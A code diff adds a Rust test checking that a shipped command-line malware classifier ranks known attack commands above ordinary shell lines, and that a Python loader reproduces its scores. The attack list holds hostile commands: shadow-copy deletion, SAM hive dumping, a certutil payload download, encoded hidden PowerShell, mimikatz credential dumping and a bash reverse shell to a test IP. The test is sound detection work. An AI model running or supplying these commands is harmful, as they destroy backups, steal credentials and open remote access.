@@ -569,3 +569,101 @@ fn bpe_tokenizer_is_trained_exported_and_reproduced_by_the_python_loader() {
         "{text}"
     );
 }
+
+/// The shipped model (scripts/train_shipped_model.sh) loads, ranks well-known attack lines
+/// above ordinary ones, and the numpy-only loader reproduces its scores to 1e-4.
+#[test]
+fn shipped_model_ranks_attacks_above_ordinary_lines_and_the_python_loader_agrees() {
+    let model = Path::new(env!("CARGO_MANIFEST_DIR")).join("models/cmdline-cnn");
+    let clf = Classifier::load(&model, &globals()).unwrap();
+    let attacks = [
+        "vssadmin.exe delete shadows /all /quiet",
+        "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
+        "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    ];
+    let ordinary = [
+        "ls -la",
+        "git status",
+        "cd ~/projects && make test",
+        "tar -xzf archive.tar.gz -C /opt",
+        "python3 -m pip install --upgrade requests",
+        "grep -rn TODO src/",
+    ];
+    let a = clf.score(&attacks, 32_768, |_| {});
+    let o = clf.score(&ordinary, 32_768, |_| {});
+    eprintln!("attacks {a:.4?}\nordinary {o:.4?}");
+    // A small byte CNN trained on documentation and CI lines is no oracle (see its card):
+    // it must rank attacks above ordinary lines on the whole, not every single pair.
+    let pairs_won = a
+        .iter()
+        .flat_map(|x| o.iter().map(move |y| (x > y) as u32))
+        .sum::<u32>() as f64
+        / (a.len() * o.len()) as f64;
+    let mean = |v: &[f64]| v.iter().sum::<f64>() / v.len() as f64;
+    assert!(
+        pairs_won >= 0.85,
+        "pairwise AUC {pairs_won}: {a:?} vs {o:?}"
+    );
+    assert!(mean(&a) - mean(&o) > 0.3, "{a:?} vs {o:?}");
+    // At the stored threshold (validation FPR 1e-3) no ordinary line is flagged.
+    assert!(a.iter().any(|&s| clf.is_malicious(s)), "{a:?}");
+    assert!(o.iter().all(|&s| !clf.is_malicious(s)), "{o:?}");
+
+    // The downstream contract on the shipped files: 100 lines through the CLI and Python.
+    let dir = tempfile::tempdir().unwrap();
+    let mut lines: Vec<String> = attacks
+        .iter()
+        .chain(&ordinary)
+        .map(|s| s.to_string())
+        .collect();
+    for f in [
+        "atomic_red_team.jsonl",
+        "runner_images.jsonl",
+        "nl2bash.jsonl",
+    ] {
+        let text = std::fs::read_to_string(sample(f)).unwrap();
+        for l in text.lines().take(30) {
+            let v: serde_json::Value = serde_json::from_str(l).unwrap();
+            let cmd = v["cmd"].as_str().unwrap().replace('\n', " ");
+            if lines.len() < 100 && !cmd.trim().is_empty() {
+                lines.push(cmd);
+            }
+        }
+    }
+    assert_eq!(lines.len(), 100);
+    let text = dir.path().join("lines.txt");
+    std::fs::write(&text, lines.join("\n") + "\n").unwrap();
+    let scores = dir.path().join("scores.jsonl");
+    longtail(&[
+        "classify",
+        "--model",
+        &model.display().to_string(),
+        &text.display().to_string(),
+        "-o",
+        &scores.display().to_string(),
+    ]);
+    let python_ok = Command::new("python3")
+        .args(["-c", "import numpy, safetensors.numpy"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !python_ok {
+        eprintln!("SKIPPED: the Python loader check needs python3 with numpy and safetensors");
+        return;
+    }
+    let out = Command::new("python3")
+        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/load_classifier.py"))
+        .arg(&model)
+        .arg("--check")
+        .arg(&scores)
+        .output()
+        .unwrap();
+    let report = String::from_utf8_lossy(&out.stdout);
+    eprintln!("{report}{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success() && report.contains("OK: 100 lines"),
+        "{report}"
+    );
+}
